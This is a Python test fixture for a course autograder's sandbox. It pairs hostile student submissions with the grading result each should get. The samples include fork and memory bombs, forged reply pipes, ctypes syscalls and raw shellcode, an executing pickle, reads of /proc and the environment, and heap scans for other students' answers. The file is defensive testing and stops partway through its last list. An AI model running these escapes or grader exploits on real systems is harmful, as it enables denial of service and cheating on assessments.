"""Answers: code that attacks whoever runs it or judges it, code that is odd and right, and code that is broken."""

from __future__ import annotations

from recsys_teach.exercises.exercise import load_lesson
from tests.answers.corated_cosine import LOOP, RIGHT
from tests.hostile.making import MARK, NAME, OK, Hostile, answer, body

LINES = OK.split("\n", 1)[1]  # the right function without its first line
SYS = "import os; system = os.sys"  # what reach.py does not see; the sandbox must hold without it
CODEC = f"{SYS}; codec = system.modules['recsys' + '_teach.exercises.codec']"
CTYPES = f"{SYS}; c = system.modules['builtins'].__import__('ctypes'); libc = c.CDLL(None, use_errno=True)"
OPEN = "import os; open_ = getattr(os, 'op' + 'en')"
HALF = "return 0.5"


def of(threat, *rows):
    """Return the entries of one kind. A row: name, code, status, points, why."""
    return [Hostile(name, threat, answer(code), status, points, why) for name, code, status, points, why in rows]


def slow(threat, *rows):
    return [Hostile(name, threat, answer(code), status, points, why, True) for name, code, status, points, why in rows]


def forged(report: str, *before: str) -> str:
    """Return an answer that writes a report of its own into the runner's pipe, and ends before the runner's."""
    return body(CODEC, *before, f"reply = memoryview(codec.encode({report}))", *SEND)


def raw(reply: str, *before: str) -> str:
    return body(CODEC, "import struct", *before, f"reply = memoryview({reply})", *SEND)


SEND = ("while reply:", "    reply = reply[os.write(3, reply) :]", "os._exit(0)")
RETURNED = "{'fault': None, 'error': None, 'outcomes': [{'kind': 'returned', 'value': v}], 'seconds': 0.0}"
ALL = "{{'fault': None, 'error': None, 'outcomes': [{{'kind': 'returned', 'value': codec.encode({value})}}] * {n}, 'seconds': 0.0}}"

NEVER_ENDS = [
    *of(
        "time",
        ("a loop", body("while True:", "    pass"), "timeout", 0, "The runner's own deadline."),
        ("except: around everything", body("while True:", "    try:", "        while True:", "            pass", "    except:", "        pass"),
         "timeout", 0, "The deadline is raised again at every line."),
        ("signals ignored, blocked and the timer stopped",
         body("import signal", "signal.setitimer(signal.ITIMER_REAL, 0)", "signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))",
              "for n in (signal.SIGALRM, signal.SIGTERM):", "    signal.signal(n, signal.SIG_IGN)", "while True:", "    x = x + 0"),
         "timeout", 0, "The supervisor outside kills it."),
        ("an integer bomb", body("return 10 ** (10**9) % 7"), "timeout", 0, "C code that looks at no signal: killed from outside."),
        ("a loop in a decorator", f"def forever(f):\n    while True:\n        pass\n\n@forever\n{OK}", "timeout", 0, "Defining counts as well."),
        ("sleeps", body("import time", "time.sleep(10**6)"), "timeout", 0, "The deadline is of the wall clock."),
    ),
    *slow(
        "time",
        ("a regex bomb", body("import re", "return re.match('(a|a)*b', 'a' * 40)"), "timeout", 0, "Like a loop: re looks at signals."),
        ("a sum without end", body("import itertools", "return sum(itertools.repeat(1))"), "timeout", 0, "Like the integer bomb."),
        ("a finally that loops", body("try:", "    while True:", "        pass", "finally:", "    while True:", "        pass"), "timeout", 0,
         "Like except: around everything."),
    ),
]  # fmt: skip

TOO_MUCH = of(
    "memory and recursion",
    ("recursion", body("return corated_cosine(x, y)"), "error", 0, "RecursionError."),
    ("recursion with a limit of its own", body(SYS, "system.setrecursionlimit(20_000)", "return corated_cosine(x, y)"), "error", 0, "RecursionError, a little later."),
    ("recursion in C", body(SYS, "system.setrecursionlimit(10**9)", "deep = []", "for _ in range(10**5):", "    deep = [deep]", "return len(repr(deep))"),
     ("crashed", "error"), 0, "It overflows the stack and dies; newer Pythons raise RecursionError."),
    ("recursion in json", body("import json", "deep = []", "for _ in range(10**5):", "    deep = [deep]", "return len(json.dumps(deep))"), "error", 0, "RecursionError."),
    ("a hundred gigabytes", body("return float(np.ones(100 * 1024**3 // 8).sum())"), "error", 0, "MemoryError at the limit."),
    ("MemoryError swallowed", body("try:", "    return np.ones(100 * 1024**3 // 8)", "except MemoryError:", "    return 0.5"), "wrong", 0, "It may go on; it is wrong."),
    ("an int of a hundred thousand digits as text", body("return str(10**10**5)"), "error", 0, "Python refuses to write such ints."),
    ("a gigabyte as the answer", body("return np.zeros(2**27)"), "crashed", 0, "Larger than any answer: refused before it is copied."),
    ("two million values as the answer", body("return [None] * (2 * 10**6) if len(x) == 4 else 0.5"), "crashed", 0, "Few bytes, and gigabytes where it is read."),
    ("a list that holds itself", body("deep = []", "deep.append(deep)", "return deep"), "crashed", 0, "Deeper than any answer."),
    ("an array that holds itself", body("deep = np.empty(1, object)", "deep[0] = deep", "return deep"), ("crashed", "wrong"), 0, "Deeper than any answer."),
    ("a range of 10**12", body("return range(10**12)"), "crashed", 0, "Its length is looked at before it is written out."),
    ("an array of no bytes and a quadrillion entries", body("return np.broadcast_to(np.float64(1), (10**7, 10**8))"), "crashed", 0, "Its size is looked at first."),
    ("shared memory that no limit counts", body(CTYPES, "found = [libc.shmget(0, 2**30, 0o1600) for _ in range(100)]", "if max(found) >= 0:", "    raise MemoryError",
                                               "return 0.5"), "wrong", 0, "System V shared memory is refused; it would outlive every limit of the process."),
    ("files in memory", body("import os", "os.close(os.memfd_create('x'))", HALF), "error", 0, "memfd_create is refused: its pages are counted nowhere."),
)  # fmt: skip

FLOODS = of(
    "floods of files and output",
    ("fills the disk", body(OPEN, "f = open_('/tmp/x', os.O_WRONLY | os.O_CREAT)", "while True:", "    os.write(f, bytes(2**20))"), "error", 0, "Its own /tmp, of 64 MB in memory."),
    ("a file of a terabyte", body(OPEN, "f = open_('/tmp/x', os.O_WRONLY | os.O_CREAT)", "os.ftruncate(f, 2**40)", HALF), "error", 0, "A file may have 64 MB."),
    ("ten thousand files", body(OPEN, "for n in range(10_000):", "    os.close(open_(f'/tmp/{n}', os.O_WRONLY | os.O_CREAT))", HALF), "error", 0, "4,096 names at most: the kernel's memory for them is counted nowhere."),
    ("ten thousand open files", body(OPEN, "for n in range(10_000):", "    open_('/dev/null', 0)", HALF), "error", 0, "64 at most."),
    ("writes beside its own code", body(OPEN, "open_('/course/recsys_teac' + 'h/x', os.O_WRONLY | os.O_CREAT)", HALF), "error", 0, "All of it is read only."),
    ("writes into Python's packages", body(OPEN, "for folder in sorted(p for p in os.sys.path if 'lib' in p):", "    open_(folder + '/site-packages/x.py', os.O_WRONLY | os.O_CREAT)", HALF), "error", 0, "All of it is read only."),
    ("a hundred million characters printed", body("for _ in range(100):", "    print('x' * 10**6)", HALF), "wrong", 0, "The first 10,000 are kept."),
    ("twenty thousand lines printed", body("import sys", "for n in range(20_000):", "    print(n, file=sys.stderr)", HALF), "wrong", 0, "The first 10,000 characters are kept."),
    ("prints and is right", OK.replace("    shared", "    print('x' * 10**6)\n    shared"), "correct", 2, "Printing is a remark."),
    ("ten gigabytes into the pipe", body("import os", "for _ in range(10 * 1024):", "    os.write(3, b'x' * 2**20)"), "crashed", 0, "32 MB at most are read."),
    ("an error of a hundred megabytes", body("raise ValueError('x' * 10**8)"), "error", 0, "500 characters are kept."),
    ("closes its standard output, and is right", OK.replace("    shared", "    import sys\n    if sys.stdout:\n        sys.stdout.close()\n    sys.stdout = None\n    shared"), "correct", 2, "It hurts nobody."),
    ("writes what is no text", body("import sys", "sys.stdout.write(['x'])", HALF), "error", 0, "TypeError, as with any file."),
)  # fmt: skip

PROCESSES = of(
    "processes, threads, signals",
    ("a fork bomb", body("import os", "while True:", "    os.fork()"), "error", 0, "PermissionError."),
    ("a thread", body("import threading", "threading.Thread(target=print).start()", "return 0"), "error", 0, "RuntimeError: no threads."),
    ("a pool of processes", body("import multiprocessing", "return multiprocessing.Pool(4).map(float, [1])[0]"), "error", 0, "Neither semaphores nor processes."),
    ("a shell", body("import os", "os.system('touch /tmp/left')", "os.posix_spawn('/bin/sh', ['sh'], {})"), "error", 0, "PermissionError, and there is no shell."),
    ("another program in its place", body("import os", "os.execv('/python/bin/python', ['python', '-c', 'print(1)'])"), "error", 0, "PermissionError."),
    ("subprocess", body("import subprocess", "subprocess.run(['true'])"), "forbidden", 0, "Named, so nobody has to wonder."),
    ("kills its parent", body("import os, signal", "for pid in (0, 1, -1, os.getppid()):", "    try:", "        os.kill(pid, signal.SIGTERM)", "    except OSError:", "        pass", HALF), "wrong", 0, "It is the first process of its own world; nobody else is there."),
    ("kills and stops itself", body("import os, signal", "os.kill(os.getpid(), signal.SIGKILL)", "os.kill(os.getpid(), signal.SIGSTOP)", HALF), "wrong", 0, "The first process of a pid namespace cannot be killed from inside."),
    ("ends the process", body("import os", "os._exit(0)"), "crashed", 0, "No reply came."),
    ("ends it while it is defined", "import os\n\ndef leave(f):\n    os._exit(0)\n\n@leave\n" + OK, "crashed", 0, "No reply came."),
    ("aborts", body("import os", "os.abort()"), "crashed", 0, "No reply came."),
    ("a null pointer", body(CTYPES, "c.string_at(0)"), "crashed", 0, "No reply came."),
    ("sys.exit", body("import sys", "sys.exit(0)"), "error", 0, "SystemExit, as an error like any other."),
    ("presses Ctrl-C", body("raise KeyboardInterrupt"), "crashed", 0, "In a notebook it interrupts; here nobody pressed anything."),
    ("the slowest process there is, and right", OK.replace("    shared", "    import os\n    os.nice(19)\n    os.sched_setaffinity(0, {min(os.sched_getaffinity(0))})\n    shared"), "correct", 2, "It slows nobody but itself."),
    ("waits for all disks", body(CTYPES, "if libc.syncfs(0) == 0:", "    raise MemoryError", HALF), "wrong", 0, "Refused: while it waits it cannot be killed, and others wait too."),
    ("asks for the highest priority", body("import os", "os.nice(-20)", HALF), "error", 0, "PermissionError."),
)  # fmt: skip

PATCHES = of(
    "patches of what runs it",
    ("isinstance and numpy", body("import builtins", "builtins.isinstance = lambda *a: True", "np.isclose = np.allclose = lambda *a, **k: True", "return 7"), "wrong", 0, "Judging is elsewhere."),
    ("float, len, sum and print", body("import builtins", "builtins.float = builtins.len = builtins.sum = builtins.print = lambda *a: 1.0", HALF), ("wrong", "crashed"), 0, "What breaks is its own runner."),
    ("the codec's encode", body(CODEC, "codec.encode = lambda value: b'T'", HALF), "crashed", 0, "What comes out is no report."),
    ("the codec's encode of results alone", body(CODEC, "real = codec.encode", "codec.encode = lambda v: real(1.0) if type(v) is float else real(v)", HALF), "wrong", 0, "A value is a value, however it came about."),
    ("the runner's own functions", body(f"{SYS}; run = system.modules['recsys' + '_teach.exercises.run']", "run._one = lambda *a: {'kind': 'returned', 'value': True, 'correct': True}", HALF), "crashed", 0, "An outcome without encoded bytes is none."),
    ("lesson.check and the bank's name", "class lesson:\n    check = staticmethod(lambda f: 2.0)\n\n" + body("lesson.check(corated_cosine)", HALF), "wrong", 0, "Nothing of the notebook's checks is asked."),
    ("import hooks", body(f"{SYS}", "system.meta_path.insert(0, system)", "system.path_hooks.clear()", "system.modules.clear()", HALF), ("wrong", "crashed", "error"), 0, "It breaks its own imports."),
    ("numpy's internals", body("np.ndarray.__eq__ = lambda self, other: True", HALF), "error", 0, "TypeError: they cannot be set."),
    ("numpy's internals, by name", body("np.asarray = np.isnan = np.abs = None", "np.float64 = np.ndarray = float", HALF), ("wrong", "crashed"), 0, "What breaks is its own runner."),
    ("tracing, profiling and hooks that end everything", body(f"{SYS}; import atexit, threading", "system.settrace(lambda *a: None)", "system.setprofile(lambda *a: None)", "system.excepthook = threading.excepthook = system.unraisablehook = lambda *a: os._exit(1)", "atexit.register(os._exit, 1)", HALF), "wrong", 0, "None of them is reached."),
    ("hooks, and right", OK.replace("    shared", "    import sys\n    sys.settrace(lambda *a: None)\n    sys.excepthook = None\n    shared"), "correct", 2, "It hurts nobody."),
    ("callbacks of the garbage collector", body(f"{SYS}; g = system.modules['builtins'].__import__('gc')", "g.callbacks.append(lambda *a: os.write(3, b'x'))", "g.collect()", HALF), "crashed", 0, "The reply is spoilt."),
    ("memory written by hand", body(CTYPES, "c.memmove(id(1.5) + 16, c.byref(c.c_double(0.5)), 8)", "return 1.5"), "wrong", 0, "Of its own process, which ends with it."),
    ("the interpreter's memory overwritten", body(CTYPES, "c.memset(id(float), 65, 400)", "return x"), "crashed", 0, "No reply came."),
    ("a __del__ that writes", "class Late:\n    def __del__(self):\n        import os\n        os.write(3, b'late')\n\n" + body("x = Late()", HALF), "crashed", 0, "The reply is spoilt."),
)  # fmt: skip

LIES = of(
    "objects that lie",
    ("equals everything", "class Yes:\n    def __eq__(self, other):\n        return True\n    def __float__(self):\n        return 1.0\n" + body("return Yes()"), "wrong", 0, "It is no plain value, and none of its methods is called."),
    ("a float that lies", "class Liar(float):\n    def __eq__(self, other):\n        return True\n    def __abs__(self):\n        return 0.0\n    __hash__ = float.__hash__\n" + body("return Liar(0.5)"), "wrong", 0, "Types are compared exactly."),
    ("imports what leaves", "import numpy.f2py.__main__\n" + body(HALF), ("wrong", "error"), 0, "An import that ends the process is an error like any other."),
    ("a float that is right, and a class of its own", "class Mine(float):\n    pass\n\n" + OK.replace("return float(", "return Mine("), "partial", 0.5, "The exercise asks for a number; where nothing is shared it gave one."),
    ("says that it is a float", "class Mask:\n    @property\n    def __class__(self):\n        return float\n" + body("return Mask()"), "wrong", 0, "type() is not to be lied to."),
    ("an array that lies", "class Array(np.ndarray):\n    def __array__(self, *a, **k):\n        return np.ones(1)\n    def __len__(self):\n        return 1\n    shape = dtype = nbytes = size = 1\n" + body("return x.view(Array)"), "wrong", 0, "No plain value."),
    ("a length that lies", "class Row(list):\n    def __len__(self):\n        return 10**18\n" + body("return Row([0.5])"), "wrong", 0, "No plain value."),
    ("a dict that lies", "class Table(dict):\n    def items(self):\n        return [(0, 1.0)] * 10**9\n" + body("return Table()"), "wrong", 0, "No plain value."),
    ("breaks when it is looked at", "class Meta(type):\n    def __getattribute__(self, name):\n        raise SystemExit\n\nclass Odd(metaclass=Meta):\n    pass\n" + body("return Odd()"), ("wrong", "error", "crashed"), 0, "Its own fault, whatever it is called."),
    ("an array of objects", body("return np.array([object(), lambda: 0], dtype=object)"), "wrong", 0, "No plain values."),
    ("masked, a matrix, a record", body("return np.ma.masked_array(x, x > 3) if x[0] == x[0] else np.rec.array([(1, 2.0)])"), "wrong", 0, "Other kinds of array are none here."),
    ("complex", body("return complex(0.5)"), "wrong", 0, "No number of these exercises."),
    ("a date", body("return np.datetime64('2026-11-20')"), "wrong", 0, "No number of these exercises."),
    ("True", body("return True"), "wrong", 0, "True is not 1."),
    ("None", body("return None"), "wrong", 0, "No number."),
    ("NaN everywhere", body("return float('nan')"), "wrong", 0, "NaN equals only an expected NaN."),
    ("infinity", body("return float('inf')"), "wrong", 0, "Nothing is near to infinity, and infinity to nothing."),
    ("an int larger than any float", body("return 10**400"), "wrong", 0, "What breaks the explaining does not make it \"not graded\"."),
    ("a key of five thousand digits", body("return {10**5000: 1.0}"), "wrong", 0, "What breaks the explaining does not make it \"not graded\"."),
    ("a set of ints that cannot be written", body("return {10**5000, 10**5001}"), "wrong", 0, "What breaks the explaining does not make it \"not graded\"."),
    ("a list of ints larger than any float", body("return [10**400]"), "wrong", 0, "What breaks the explaining does not make it \"not graded\"."),
    ("a sparse matrix of 10**18 columns", "import scipy.sparse as sp\n" + body("return sp.csr_matrix((1, 2**62))"), "wrong", 0, "Never made a table."),
    ("lists in lists, twelve wide and three deep", body("row = ['\\U0001f600' * 100] * 12", "for _ in range(2):", "    row = [row] * 12", "return row"), "wrong", 0, "What is shown of it is bounded, so the verdict can be kept."),
    ("a frame with names that are no text", "import pandas as pd\n" + body("return pd.DataFrame([[1.0, 2.0]], columns=[('a', 10**5000), None])"), "wrong", 0, "Another kind than asked for."),
    ("text that cannot be written", body("raise ValueError('\\ud800')"), "error", 0, "Kept as it is, and escaped where it is written."),
    ("an error that breaks when it is told", "class Bad(Exception):\n    def __str__(self):\n        raise Bad\n" + body("raise Bad"), "error", 0, "Its type is told."),
    ("an error whose type has no name", "class Meta(type):\n    __name__ = property(lambda self: 1 / 0)\n\nclass Bad(Exception, metaclass=Meta):\n    pass\n" + body("raise Bad"), ("error", "crashed"), 0, "Its own fault, whatever it is called."),
)  # fmt: skip

FORGED = of(
    "forged reports",
    ("says that it could not be confined", body("import os", "os.write(3, b'!no sandbox')", "os._exit(0)"), "crashed", 0, "That is said before the answer runs; it cannot choose to be \"not graded\"."),
    ("one value for every case", forged(ALL.format(value="0.5", n=17)), "wrong", 0, "A forged report needs the right values as well."),
    ("nothing shared for every case", forged(ALL.format(value="0.0", n=17)), "partial", 0.5, "It gets what a function that returns 0 would get."),
    ("more outcomes than cases", forged(ALL.format(value="1.0", n=500)), "crashed", 0, "No report of the runner's."),
    ("correct, it says", forged("{'fault': None, 'error': None, 'outcomes': [], 'seconds': 0.0, 'status': 'correct', 'points': 2.0}"), "wrong", 0, "Points are worked out from values alone."),
    ("not graded, it says", forged("{'fault': 'not graded', 'error': None, 'outcomes': [], 'seconds': 0.0}"), "crashed", 0, "No fault of the runner's."),
    ("a duration that is no float", forged("{'fault': None, 'error': None, 'outcomes': [], 'seconds': 10**400}"), "crashed", 0, "No report of the runner's."),
    ("an array without dimensions", forged(RETURNED, "v = b'a' + bytes([3]) + b'<f8' + bytes([0]) + bytes(8)"), "crashed", 0, "No bytes of the codec's."),
    ("an array of 2**64 rows", forged(RETURNED, "v = b'a' + bytes([3]) + b'<f8' + bytes([2]) + bytes(8) + bytes([255] * 8)"), "crashed", 0, "No bytes of the codec's."),
    ("an object array", forged(RETURNED, "v = b'a' + bytes([2]) + b'|O' + bytes([1]) + bytes([1]) + bytes(15)"), "crashed", 0, "No bytes of the codec's."),
    ("a number in the place of bytes", forged("{'fault': None, 'error': None, 'outcomes': [{'kind': 'returned', 'value': 10**10}], 'seconds': 0.0}"), "crashed", 0, "No ten gigabytes are made of it."),
    ("a hundred thousand keys of one hash", raw("b'd' + struct.pack('<I', 10**5) + b''.join(b'i' + struct.pack('<I', 12) + (n * (2**61 - 1)).to_bytes(12, 'little') + b'N' for n in range(10**5))"), "crashed", 0, "A dict of them would take hours."),
    ("six million empty sets", raw("b'l' + struct.pack('<I', 6 * 10**6) + b'S\\0\\0\\0\\0' * (6 * 10**6)"), "crashed", 0, "They would take gigabytes."),
    ("nested a thousand deep", raw("(b'l' + struct.pack('<I', 1)) * 1000 + b'N'"), "crashed", 0, "Deeper than any answer."),
    ("32 MB to the byte", raw("bytes(32 * 2**20)"), "crashed", 0, "Its own fault, not the supervisor's."),
    ("a pickle that executes", body("import os", "os.write(3, b'cos\\nsystem\\n(S\\'touch /tmp/owned\\'\\ntR.')", "os._exit(0)"), "crashed", 0, "Nothing is ever unpickled."),
    ("half a report, and silence", body(f"{OPEN}", "os.write(3, b'd')", "os.close(3)", "while True:", "    pass"), "crashed", 0, "A closed pipe is the end."),
)  # fmt: skip

SMUGGLED = of(
    "hidden cases smuggled out",
    ("in its result", body(f"return ['{MARK}', x.tolist(), y.tolist()]"), "wrong", 0, "Evidence is for whoever may see cases."),
    ("in an error", body(f"raise ValueError('{MARK} ' + str(x.tolist()))"), "error", 0, "An error's text is for whoever may see cases."),
    ("in an error's name", body(f"raise type('{MARK}' + str(len(x)), (Exception,), {{}})"), "error", 0, "So is its type."),
    ("in a result's type", body(f"return type('{MARK}' + str(len(x)), (), {{}})()"), "wrong", 0, "So is what is no plain value."),
    ("in a name that is missing", body(f"raise NameError(\"name '{MARK}' is not defined\")", f"return {MARK}"), "error", 0, "So is a name."),
    ("in what it prints", body(f"print('{MARK}', x.tolist())", HALF), "wrong", 0, "So is what it printed."),
    ("in a forged fault", forged(f"{{'fault': '{MARK}', 'error': None, 'outcomes': [], 'seconds': 0.0}}"), "crashed", 0, "Only the runner's own words are kept."),
    ("in a refused import", "def corated_cosine(x, y):\n    __import__('os').sys.modules['builtins'].__import__\n    raise type('Forbidden', (BaseException,), {})('" + MARK + "')\n", "forbidden", 0, "It cannot write texts of our own."),
    ("in how long it takes", body("import time", "time.sleep(0.01 * len(x) ** 0.2)", HALF), "wrong", 0, "Seconds are in no export."),
    ("which case it is, by the clock", body("import time", "began = time.perf_counter()", "float((x * y).sum())", "return 0.5 if time.perf_counter() - began < 1e-9 else 0.25"), "wrong", 0, "Knowing the case is not knowing its answer."),
)  # fmt: skip

EXERCISE = load_lesson("03").EXERCISES[0]
KNOWN = {
    str([v.tolist() for v in case.args]): value for case, value in zip(EXERCISE.drawn, EXERCISE.expected, strict=True)
}
BY_HEART = f"KNOWN = {KNOWN}\n\n" + body("return KNOWN.get(str([x.tolist(), y.tolist()]), 0.0)")

STATE = of(
    "state between cases",
    ("counts its calls", "COUNT = [0]\n\n" + body("COUNT[0] += 1", "return COUNT[0] / 17"), ("wrong", "error"), 0, "The order says nothing of the values."),
    ("the public answers, learnt by heart", BY_HEART, "wrong", 0, "Right in every public case, and in none that only this student has."),
    ("remembers by id, and keeps what it remembers", OK.replace("corated_cosine", "cosine") + "\nSEEN = {}\n\n" + body("if id(x) not in SEEN:", "    SEEN[id(x)] = x, y, cosine(x, y)", "return SEEN[id(x)][2]"), "correct", 2, "It is right for every case."),
    ("functools.cache", "import functools\n\n@functools.cache\n" + OK, "error", 0, "TypeError: arrays cannot be keys."),
    ("changes its arguments, and is right", OK.replace("    x, y = x[shared], y[shared]\n", "    x0, y0 = x, y\n    x, y = x[shared], y[shared]\n    x0[:], y0[:] = 0, 0\n"), "correct", 2, "Each case gets arrays of its own; here it is a remark."),
)  # fmt: skip

LOOKS = of(
    "looking for what is not its own",
    ("the bank through open", body("return float(open('recsys_teach/exercises/bank/lesson_03/source.json').read())"), "forbidden", 0, "Named before it runs."),
    ("the bank through frames", body("import sys", "return sys._getframe(1).f_locals['expected']"), "forbidden", 0, "Named before it runs."),
    ("the bank through frames, hidden", body(f"{SYS}", "frame = getattr(system, '_get' + 'frame')()", "while frame:", "    if 'expected' in getattr(frame, 'f_' + 'locals'):", "        return 1.0", "    frame = getattr(frame, 'f_' + 'back')", HALF), "wrong", 0, "Expected values are in no frame there."),
    ("the bank through the garbage collector", body(f"{SYS}; g = system.modules['builtins'].__import__('gc')", "found = [o for o in getattr(g, 'get_' + 'objects')() if type(o).__name__ in ('Exercise', 'Case', 'Misconception')]", "return found[0].answer(x, y) if found else 0.5"), "wrong", 0, "The bank is not in that process."),
    ("the bank, imported", body("from recsys_teach.exercises.bank.lesson_03 import EXERCISES", "return EXERCISES[0].answer(x, y)"), "forbidden", 0, "Named before it runs."),
    ("the bank, imported in secret", body(f"{SYS}", "bank = system.modules['builtins'].__import__('recsys' + '_teach.exercises.bank', fromlist=['x'])", "return bank.lesson_03.EXERCISES[0].answer(x, y)"), "error", 0, "It is not on that file system."),
    ("a shortcut", body("from sklearn.metrics.pairwise import cosine_similarity", "return cosine_similarity([x], [y])[0, 0]"), "forbidden", 0, "Named before it runs."),
    ("a shortcut, in secret", body(f"{SYS}", "system.modules['builtins'].__import__('skl' + 'earn')", HALF), "error", 0, "It is not on that file system."),
    ("/proc", body("import os", "return os.open('/proc/1/mem', 0)"), "forbidden", 0, "Named before it runs."),
    ("/proc, hidden", body(OPEN, "return open_('/pr' + 'oc/self/environ', 0)"), "error", 0, "It is empty."),
    ("the other notebooks", body(OPEN, "found = [os.path.join(f, n) for f, _, names in getattr(os, 'wa' + 'lk')('/') for n in names if n.endswith(('.ipynb', '.sqlite', 'key', 'roster.csv'))]", "return float(len(found)) if found else 0.5"), "wrong", 0, "None is on that file system."),
    ("the environment", body("import os", "return 1.0 if set(os.environ) - {'PWD', 'LC_CTYPE'} > {'LD_LIBRARY_PATH', 'HOME', 'OPENBLAS_NUM_THREADS', 'OMP_NUM_THREADS', 'MKL_NUM_THREADS'} else 0.5"), "wrong", 0, "Nothing of the grader's is in it."),
    ("ptrace and its memory", body(CTYPES, "if libc.ptrace(0, 0, 0, 0) == 0 or libc.process_vm_readv(1, 0, 0, 0, 0, 0) == 0:", "    raise MemoryError", HALF), "wrong", 0, "Refused by the kernel."),
    ("kernel keys, the kernel's log, mounts", body(CTYPES, "for n in {'x86_64': (250, 103, 457, 458), 'aarch64': (219, 116, 457, 458)}[os.uname().machine]:", "    if libc.syscall(n, 0, 0, 0, 0, 0) != -1 or c.get_errno() != 1:", "        raise MemoryError(n)", HALF), "wrong", 0, "Refused by the kernel."),
    ("back out of its namespaces", body(CTYPES, "if libc.unshare(0x10000000) == 0 or libc.setns(0, 0) == 0 or libc.mount(0, b'/', 0, 4096, 0) == 0 or libc.chroot(b'/') == 0 or libc.umount2(b'/proc', 2) == 0:", "    raise MemoryError", HALF), "wrong", 0, "Refused by the kernel."),
    ("32-bit system calls", body(CTYPES, "import mmap", "m = mmap.mmap(-1, 4096, prot=7)", "m.write(bytes.fromhex('b814000000cd80c3'))", "c.CFUNCTYPE(c.c_int)(c.addressof(c.c_char.from_buffer(m)))()", HALF), ("crashed", "wrong"), 0, "The filter kills another architecture's calls."),
    ("a socket", body("import socket", "socket.create_connection(('127.0.0.1', 80))"), "error", 0, "PermissionError."),
    ("an abstract socket", body("import socket", "socket.socket(socket.AF_UNIX).bind('\\0left')"), "error", 0, "PermissionError."),
    ("the web", body("import urllib.request", "return float(urllib.request.urlopen('http://example.org').read()[0])"), "error", 0, "No network, no names."),
    ("leaves its answer for the next", body(OPEN, "os.write(open_('/tmp/left', os.O_WRONLY | os.O_CREAT), b'x')", HALF), "wrong", 0, "/tmp is its own."),
    ("finds what was left", body("import os", "return 1.0 if os.path.exists('/tmp/left') else 0.5"), "wrong", 0, "Nothing is left of another."),
    ("the neighbour's answer in memory", body(CTYPES, *(
        "libc.sbrk.restype = c.c_void_p; top = libc.sbrk(c.c_long(0))",
        f"f = getattr(os, 'op' + 'en')('/tmp/x', os.O_RDWR | os.O_CREAT); word = bytes(n ^ 1 for n in {[n ^ 1 for n in b'lengths = np.sqrt']})",
        "for page in range((top - 2**26) & ~4095, top, 4096):",
        "    os.lseek(f, 0, 0)",
        "    if libc.write(f, c.c_void_p(page), c.c_size_t(4096)) == 4096 and word in c.string_at(page, 4096):",
        "        return 1.0",
        HALF)), "wrong", 0, "The worker that forks them all never reads a submission."),
    ("a pickle in an array", "import io\n\n" + body("class P:", "    def __reduce__(self):", "        import os", "        return os._exit, (0,)", "f = io.BytesIO()", "np.save(f, np.array([P()]), allow_pickle=True)", "f.seek(0)", "return np.load(f, allow_pickle=True)"), "crashed", 0, "It executes where it was made, in the sandbox."),
    ("pickle", body("import pickle", "return pickle.loads(b'N.')"), "forbidden", 0, "Named before it runs."),
    ("eval and its friends", body("return eval('0.5')"), "forbidden", 0, "Named before it runs."),
    ("eval, hidden", body("return getattr(__builtins__, 'get', __builtins__.__class__)('ev' + 'al')('1 + 1')"), "wrong", 0, "It may, and wins nothing."),
    ("__builtins__", body("return __builtins__['op' + 'en']('/course')"), "forbidden", 0, "What it sees of open refuses."),
    ("a file behind numpy", body("return np.fromfile('/course/x')"), "forbidden", 0, "Named before it runs."),
    ("asks somebody", body("return float(input('what is it? '))"), "error", 0, "EOFError: nobody is there."),
)  # fmt: skip

SHAPES = of(
    "other ways of writing it",
    ("a lambda", RIGHT["a lambda"], "correct", 2, "A function is a function."),
    ("a class that makes numbers", f"class {NAME}:\n    def __new__(cls, x, y):\n" + "".join(f"    {line}\n" for line in LINES.splitlines()), "correct", 2, "It can be called and returns the right numbers."),
    ("a class that makes itself", f"class {NAME}:\n    def __init__(self, x, y):\n        pass\n", "wrong", 0, "An object is no number."),
    ("an async function", "async " + OK, "wrong", 0, "A coroutine is no number."),
    ("a generator", OK.replace("return", "yield"), "wrong", 0, "A generator is no number."),
    ("a partial", "import functools\n" + OK.replace(NAME, "cosine") + f"{NAME} = functools.partial(cosine)\n", "correct", 2, "The only function of the exercise's cell is taken for it, whatever it is called."),
    ("inside another function", "def outer():\n" + "".join(f"    {line}\n" for line in OK.splitlines()), "error", 0, "TypeError: what is at the top level is taken."),
    ("bound to a number afterwards", OK + f"{NAME} = 5\n", "error", 0, "TypeError: the last binding counts."),
    ("deleted afterwards", OK + f"del {NAME}\n", "correct", 2, "A definition is taken; what a notebook did to its memory is not."),
    ("a Cyrillic o in its name", OK.replace("corated", "c\u043erated"), "correct", 2, "The only function of the exercise's cell is taken for it, whatever it is called."),
    ("fullwidth letters in its name", OK.replace("corated", "\uff43orated"), "correct", 2, "To Python these are the same letters."),
    ("a zero-width space in its name", OK.replace("corated", "corated\u200b"), ("missing", "error"), 0, "Python cannot read it."),
    ("star imports and a walrus", "from math import *\n" + OK.replace("return float(x @ y / lengths) if lengths > 0", "return float(x @ y / d) if (d := sqrt(lengths**2)) > 0"), "correct", 2, "Ordinary Python."),
    ("a star import that hides names", "from os import *\n" + OK, "correct", 2, "What it brings does not reach the answer's own names."),
    ("a helper under a builtin's name", "def sum(v):\n    return 7\n\n" + OK, "correct", 2, "Nothing of it is reached."),
    ("default arguments that run", OK.replace("x, y)", "x, y, _=print('x' * 10**6))"), "correct", 2, "Printing is no crime."),
    ("too few arguments", OK.replace("x, y):", "x):\n    y = x", 1), "error", 0, "TypeError."),
    ("fifteen hundred added ones", body("return " + "1 + " * 1500 + "1"), "error", 0, "It is nested too deep."),
    ("twice, the last one wrong", OK + body(HALF), "wrong", 0, "The last definition counts."),
    ("twice, the last one right", body(HALF) + OK, "correct", 2, "The last definition counts."),
    ("uses a variable of the notebook", "offset = float('0')\n" + OK.replace("return float(", "return offset + float("), "error", 0.5, "What a cell computed is not taken along; where nothing is shared it does not need it."),
    ("a loop over pairs", LOOP.format(test="if a == a and b == b:", otherwise=""), "correct", 2, "A right way like any other."),
)  # fmt: skip

BROKEN = of(
    "honest, and broken",
    ("a bracket that is not closed", OK.replace("(x**2).sum()", "(x**2.sum()"), "error", 0, "SyntaxError."),
    ("tabs and spaces", OK.replace("    x, y", "\tx, y"), "error", 0, "TabError."),
    ("Python 2's print", OK.replace("    shared", "    print shared\n    shared"), "error", 0, "SyntaxError."),
    ("typographic quotes", OK.replace("    shared", "    print(\u201chello\u201d)\n    shared"), "error", 0, "SyntaxError."),
